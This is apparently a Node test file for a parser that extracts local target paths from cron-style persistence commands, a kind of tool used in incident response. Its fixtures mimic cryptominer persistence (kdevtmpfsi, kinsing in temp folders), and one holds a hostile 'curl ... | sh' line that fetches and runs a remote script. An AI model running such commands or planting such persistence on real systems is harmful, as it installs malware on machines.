import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandTargets } from './persistence-target.js';

test('finds the program a cron line runs, skipping redirections', () => {
  assert.deepEqual(commandTargets('/tmp/.x/kdevtmpfsi >/dev/null 2>&1 &'), ['/tmp/.x/kdevtmpfsi']);
});

test('takes the script an interpreter runs as the main target', () => {
  assert.deepEqual(commandTargets('/bin/bash /root/.cache/up.sh > /tmp/log 2>&1'), ['/root/.cache/up.sh']);
});

test('finds paths inside a sh -c string and after cd', () => {
  assert.deepEqual(commandTargets('/bin/sh -c "cd /var/tmp && ./kinsing"'), ['/var/tmp', './kinsing']);
});

test('a download pipeline has no local target', () => {
  assert.deepEqual(commandTargets('curl -fsSL http://1.2.3.4/s.sh | sh'), []);
});
